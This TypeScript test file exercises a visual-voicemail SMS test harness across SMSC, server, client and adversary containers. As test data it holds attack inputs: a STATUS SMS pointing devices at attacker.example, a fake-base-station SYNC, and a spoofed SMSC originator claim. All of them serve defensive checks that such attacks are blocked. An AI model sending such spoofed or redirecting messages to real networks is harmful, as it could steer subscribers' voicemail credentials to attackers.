/**
 * SMS notifications in the container topology, without a Docker engine: the devices' view of the private
 * network, how the harness translates endpoints an SMS names, the cross-container settle, and the SMS roles
 * of the four containers (the real container topology over in-process driven hosts on loopback) carrying a
 * whole SMS exchange.
 */
import assert from 'node:assert/strict';
import net from 'node:net';
import { describe, it } from 'node:test';
import { sharedTestPki } from '../../simulators/crypto/pki';
import { DeviceNetwork, NetworkEvvmClient, harnessPort, publishedEndpointsIn, settleAcross } from '../../harness/topology/containers/clauses/sms';
import { SMS_ROUTES } from '../../harness/roles/sms';
import { HarnessError } from '../../harness/engine/outcomes';
import { InProcessFleet } from '../containers/in-process-fleet';

describe("the devices' network (evvm-client container)", () => {
  it('resolves names only, reaches the run’s own names, and follows ports the harness routed', () => {
    const n = new DeviceNetwork();
    assert.equal(n.resolve('evvm-server.op.example'), 'evvm-server.op.example');
    assert.equal(n.resolve('127.0.0.1'), undefined, 'not reached by address');
    assert.deepEqual(n.destination('evvm-server.op.example', 7001), { host: 'evvm-server.op.example', port: 7001 });
    assert.equal(n.destination('attacker.example', 7001), undefined, 'a name outside the run leads nowhere (no DNS query leaves it)');
    n.route(41234, { host: 'adversaries', port: 7003 });
    assert.deepEqual(n.destination('attacker.example', 41234), { host: 'adversaries', port: 7003 }, 'the port decides, as on the embedded network');
    assert.deepEqual(n.destination('evvm-server.op.example', 41234), { host: 'adversaries', port: 7003 });
  });

  it('an unreachable server costs no connection; a routed one gets it', async () => {
    const pki = await sharedTestPki();
    const seen: string[] = [];
    const server = net.createServer((s) => {
      seen.push('connected');
      s.destroy();
    });
    const [port] = await new Promise<number[]>((resolve) => server.listen(0, '127.0.0.1', () => resolve([(server.address() as net.AddressInfo).port])));
    const network = new DeviceNetwork();
    const client = new NetworkEvvmClient({ trustAnchorPem: pki.trustAnchorPem, timeoutMs: 3000 }, network);
    const account = { username: 'tel:+15550001', password: 'not-sent' };
    const lost = await client.retrieveVoicemail({ host: 'attacker.example', port: 993, servername: 'evvm-server.op.example', transport: 'implicit-tls' }, account);
    assert.equal(lost.connected, false);
    assert.match(lost.error ?? '', /attacker\.example is not reachable/);
    network.route(40000, { host: '127.0.0.1', port: port! });
    const routed = await client.retrieveVoicemail({ host: 'attacker.example', port: 40000, servername: 'evvm-server.op.example', transport: 'implicit-tls' }, account);
    assert.equal(routed.loggedIn, false);
    assert.deepEqual(seen, ['connected']);
    server.close();
  });
});

describe('endpoints between the harness and the private network', () => {
  const onNetwork = <E extends { host: string; port: number }>(e: E): E => {
    if (e.host === '127.0.0.1' && e.port === 41234) return { ...e, host: 'adversaries', port: 7003 };
    throw new HarnessError(`${e.host}:${e.port} is not a port of this run's containers`);
  };

  it('finds the ports an SMS names that are the harness’s published ones, wherever ipt stands', () => {
    assert.deepEqual(publishedEndpointsIn({ onNetwork }, '//VVM:STATUS:st=R;rc=0;srv=attacker.example;ipt=41234;u=tel:+15550001;pw=x'), [{ port: 41234, to: { host: 'adversaries', port: 7003 } }]);
    assert.deepEqual(publishedEndpointsIn({ onNetwork }, '//VVM:STATUS:st=R;ipt=41234i;u=x'), [{ port: 41234, to: { host: 'adversaries', port: 7003 } }], 'a malformed port still names it');
    assert.deepEqual(publishedEndpointsIn({ onNetwork }, '//VVM:STATUS:st=R;ipt=993;u=x'), [], 'a port of no container is left alone');
    assert.deepEqual(publishedEndpointsIn({ onNetwork }, '//VVM:SYNC:ev=NM;id=1;xipt=41234'), []);
  });

  it('answers what a device reached as the harness reaches it', () => {
    // the harness's tunnels: a container's fixed port, by each of its names, → a port on 127.0.0.1
    const tunnels = new Map([
      ['evvm-server:7001', 37001],
      ['evvm-server.op.example:7001', 37001],
      ['adversaries:7003', 47003],
    ]);
    const fromNetwork = <E extends { host: string; port: number }>(e: E): E | undefined => {
      const port = tunnels.get(`${e.host}:${e.port}`);
      return port === undefined ? undefined : { ...e, host: '127.0.0.1', port };
    };
    assert.equal(harnessPort({ fromNetwork }, { host: 'evvm-server.op.example', port: 7001 }), 37001);
    assert.equal(harnessPort({ fromNetwork }, { host: 'adversaries', port: 7003 }), 47003);
    assert.equal(harnessPort({ fromNetwork }, null), undefined);
    assert.equal(harnessPort({ fromNetwork }, { host: 'evvm-server', port: 993 }), undefined, 'not a pool port');
    assert.equal(harnessPort({ fromNetwork }, { host: 'attacker.example', port: 7001 }), undefined);
  });
});

describe('settling across containers', () => {
  /** a container whose settle route answers from a script: busy, busy, idle, … */
  const scripted = (answers: boolean[]) => {
    let i = 0;
    const settle = async (): Promise<{ wasBusy: boolean }> => ({ wasBusy: answers[Math.min(i++, answers.length - 1)]! });
    return Object.assign(settle, { asked: () => i });
  };

  it('waits for two all-idle rounds in a row', async () => {
    const a = scripted([true, false, false, false]);
    const b = scripted([false, true, false, false]);
    await settleAcross([a, b], 1000);
    assert.equal(a.asked(), 4, 'busy, busy elsewhere, idle, idle');
    assert.equal(b.asked(), 4);
  });

  it('is a harness error when the path does not go quiet', async () => {
    const busy = async (): Promise<{ wasBusy: boolean }> => {
      await new Promise((r) => setTimeout(r, 20));
      return { wasBusy: true };
    };
    await assert.rejects(settleAcross([busy], 100), (err: Error) => err instanceof HarnessError && /still busy after 100 ms/.test(err.message));
  });
});

describe('the SMS roles of four containers, in-process on loopback', () => {
  it('activates, notifies a deposit, and keeps a fake base station’s SMS from an unknown number out', async () => {
    const fleet = await InProcessFleet.start(['smsc', 'evvm-server', 'evvm-client', 'adversaries']);
    try {
      const { topology, transcript } = await fleet.scenario();
      const smsc = await topology.role('smsc');
      // the SMSC answered fixed pool ports: the harness reaches both through its tunnels
      const smpp = smsc.endpoint('tcp');
      const smpps = smsc.endpoint('tls');
      assert.equal(smpp?.host, '127.0.0.1');
      assert.deepEqual({ host: smpps?.host, servername: smpps?.servername }, { host: '127.0.0.1', servername: 'smsc.op.example' });
      const esme = await smsc.openTestEsme('tls');
      const bind = await esme.bindWithWrongPassword(smsc.evvmServerSystemId);
      assert.equal(bind.statusName, 'ESME_RINVPASWD', "the harness's test ESME reaches the SMSC over TLS through the tunnel, and the SMSC answers it");

      const server = await topology.evvmServer();
      const imaps = server.endpoint('implicit-tls');
      assert.ok(imaps, 'the EVVM Server offers implicit TLS');
      // no DNS here knows evvm-server.op.example: the evvm-server host's fixed ports lead to loopback, as the
      // private network's DNS leads that name to the evvm-server container
      const evvmServerPorts = fleet.info.roles['evvm-server']!.pool;
      await (await topology.control('evvm-client')).call(SMS_ROUTES.deviceRoutes.path, { routes: evvmServerPorts.map((port) => ({ port, to: { host: '127.0.0.1', port } })) });

      const serverSms = await topology.role('evvm-server-sms');
      const alice = await (await topology.role('evvm-client-sms')).device('alice');
      await alice.activate();
      await smsc.settled();
      const { state } = await alice.observe();
      assert.equal(state.provisioned, true, 'the STATUS led the EVVM Client to the EVVM Server');
      assert.deepEqual(state.server, { host: 'evvm-server.op.example', port: imaps.port }, 'the server the device reached, as the harness reaches it');

      const { uid } = await serverSms.depositVoicemail(topology.account('alice'));
      await smsc.settled();
      const { received, syncs } = await alice.observe();
      assert.ok(received.some((r) => r.text.includes(':SYNC:') && r.text.includes(`id=${uid}`)), 'a SYNC for the deposit reached the handset');
      const last = syncs.at(-1)!;
      assert.ok(last.loggedIn, JSON.stringify(last));
      assert.equal(last.port, imaps.port, 'the sync reached the EVVM Server, as the harness reaches it');

      const spoofer = await topology.role('sms-spoofer');
      await spoofer.overTheAir(alice, { originator: '15559999', text: '//VVM:SYNC:ev=NM;id=4242;c=1;t=v', port: fleet.profile.policy.sms.applicationPort });
      await smsc.settled();
      assert.equal((await alice.observe()).notifications.at(-1)!.verdict, 'dropped');

      // the other routes of the contract, each answered within its schema
      const msisdn = topology.account('alice').identifiers.MSISDN;
      assert.ok((await serverSms.mailbox(msisdn)).some((m) => m.uid === uid), 'the mailbox holds the deposit');
      assert.equal((await serverSms.subscriber(msisdn))?.state, 'R');
      assert.ok((await serverSms.observations()).notifications.some((n) => n.kind === 'SYNC' && n.to === msisdn));
      const claim = await spoofer.viaSmsc({ to: msisdn, text: '//VVM:SYNC:ev=MBU;c=0', claimedOriginator: serverSms.shortCode });
      assert.equal(claim.statusName, 'ESME_RINVSRCADR', "the SMSC refuses the spoofer's claim of the EVVM Server's number");
      assert.ok((await smsc.observations()).submissions.some((x) => x.status === 'ESME_RINVSRCADR'));
      const clients = await topology.role('evvm-client-sms');
      await clients.stranger('dave', 'tel:+15550991');
      await (await clients.device('dave')).requestStatus();
      await smsc.settled();
      assert.match((await (await clients.device('dave')).observe()).received.at(-1)?.text ?? '', /:STATUS:st=U;/, 'a number without a mailbox gets st=U');

      const own = await topology.end();
      const entries = transcript.entries();
      const actors = new Set(entries.map((e) => e.actor));
      assert.ok(actors.has('Fake Base Station'), `the spoofer's transmission is in the scenario's transcript: ${[...actors].join(', ')}`);
      assert.ok(actors.has(smsc.actor) && actors.has(alice.actor), 'the containers’ transcripts were merged');
      assert.ok(entries.some((e) => e.actor === alice.radio.actor && e.peer === 'Fake Base Station'), 'the radio recorded what the fake base station sent');
      const text = JSON.stringify(entries);
      // the harness made the SMPP passwords per scenario and registered them with the scenario's transcript
      const secrets = transcript.secretValues();
      assert.ok(secrets.length > 0);
      // each container scrubbed them itself, before the harness scrubs the merge again
      for (const [role, mine] of own) for (const secret of secrets) assert.ok(!JSON.stringify(mine).includes(secret), `no SMPP or account password in the ${role} container's transcript`);
      for (const secret of secrets) assert.ok(!text.includes(secret), 'no SMPP password (or account password) in the merged transcript');
    } finally {
      await fleet.close();
    }
  });
});
